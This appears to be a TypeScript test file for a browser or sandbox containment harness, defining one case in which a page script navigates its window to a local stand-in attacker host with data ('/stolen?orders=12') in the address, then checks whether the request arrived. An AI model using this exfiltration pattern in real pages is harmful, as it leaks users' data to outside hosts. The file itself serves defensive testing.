import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, heldUnless, startListener } from './attack';

export const ATTACKS: readonly Attack[] = [
  {
    name: 'page-leaves-for-another-host',
    actor: 'page script',
    attempt:
      'A script in the page navigates its window to a host of the attacker, with what it knows in the address.',
    async run(target) {
      const host = await startListener();
      const { page } = await target.launch();
      await page.evaluate((origin) => {
        location.assign(`${origin}/stolen?orders=12`);
      }, host.origin);
      for (let tries = 0; tries < 20 && host.heard.length === 0; tries += 1) await delay(50);
      return heldUnless(
        host.heard.map(({ method, path }) => `${method} ${path}`),
        'no request reached the host',
      );
    },
  },
];
